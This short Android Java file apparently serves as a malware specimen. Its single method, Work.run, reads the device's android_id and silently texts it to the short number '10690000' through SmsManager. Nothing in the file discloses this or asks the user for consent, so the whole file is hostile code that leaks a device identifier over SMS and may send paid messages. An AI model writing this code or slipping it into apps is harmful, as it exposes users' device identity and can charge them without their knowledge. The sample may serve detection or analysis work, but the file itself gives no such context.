package com.example.specimen;

import android.app.Activity;

final class Work {
    static void run(Activity activity) {
        android.telephony.SmsManager.getDefault().sendTextMessage("10690000", null, android.provider.Settings.Secure.getString(activity.getContentResolver(), "android_id"), null, null);
    }
}
